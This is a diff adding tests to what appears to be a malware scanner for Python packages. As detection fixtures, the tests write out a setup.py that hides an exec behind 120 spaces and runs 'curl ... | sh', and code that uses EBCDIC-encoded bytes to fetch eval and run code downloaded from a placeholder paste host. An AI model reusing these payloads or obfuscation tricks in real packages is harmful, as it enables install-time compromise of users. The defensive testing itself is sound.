@@ -7,12 +7,15 @@ import { before, test } from 'node:test';
 import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
+import codecData from '../../data/python-codecs.json' with { type: 'json' };
 
 before(() => initAnalysis());
 
 function findings(source: string, path = 'demo/mod.py'): Finding[] {
   return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
 }
+/** CPython's cp1026 (EBCDIC) decoding table, as recorded in data/python-codecs.json. */
+const EBCDIC: string = codecData.decodeOnly.cp1026.table;
 const codes = (name: string) => `[${[...name].map((c) => c.charCodeAt(0)).join(', ')}]`;
 
 test('__import__ and getattr fetched from globals()["__builtins__"] by chr()-spelt names, through a bound "".join', () => {
@@ -115,4 +118,38 @@ test('a name decoded in place (`hook = b64decode(hook)`) holds the decoded text 
   ].join('\n');
   const call = findings(source).find((f) => f.rule === 'egress-network-call');
   assert.equal(call?.destination?.host, 'hooks.example.invalid');
+});
+
+test('code in a constant string given to exec() is analysed as code that runs where the exec is', () => {
+  const inner = 'import os\\nos.system("curl -s http://192.0.2.9/x | sh")\\n';
+  const source = `from setuptools import setup${' '.repeat(120)};exec("""${inner}""")\nsetup(name="demo")\n`;
+  const files = analyzePythonFile('setup.py', new TextEncoder().encode(source), { role: 'setup' });
+  const hidden = files[0].findings.find((f) => f.rule === 'hidden-code');
+  assert.equal(hidden?.severity, 'high', '120 spaces hide an exec');
+  const payload = files.find((file) => file.path === 'setup.py#decoded-1');
+  const launch = payload?.findings.find((f) => f.rule === 'download-execute');
+  assert.equal(launch?.severity, 'critical', 'the curl | sh in the string is found, at install time');
+  assert.equal(launch.trigger, 'install');
+  const short = findings(`x = 1${' '.repeat(120)}; y = 2\n`);
+  assert.equal(
+    short.find((f) => f.rule === 'hidden-code'),
+    undefined,
+    '120 spaces before harmless code',
+  );
+});
+
+test('bytes decoded with an EBCDIC codec (cp1026) are read as Python reads them, and what they spell is disguised', () => {
+  const ebcdic = (text: string) =>
+    `b'${[...Buffer.from(text, 'latin1')].map((c) => `\\x${EBCDIC.indexOf(String.fromCharCode(c)).toString(16).padStart(2, '0')}`).join('')}'`;
+  const source = [
+    'import builtins',
+    `cc = getattr(builtins, ${ebcdic('eval')}.decode('cp1026'))`,
+    `cc(${ebcdic("exec(__import__('requests').get('https://paste.example.invalid/raw').text)")}.decode('cp1026'))`,
+  ].join('\n');
+  const files = analyzePythonFile('demo/mod.py', new TextEncoder().encode(source));
+  const rules = files[0].findings.map((f) => f.rule);
+  assert.ok(rules.includes('obfuscated-builtin'), 'eval fetched by an EBCDIC-spelt name');
+  assert.ok(rules.includes('exec-decoded-payload'), 'the EBCDIC payload is decoded and rescanned');
+  const inner = files.flatMap((file) => file.findings).find((f) => f.rule === 'download-execute');
+  assert.equal(inner?.severity, 'critical');
 });
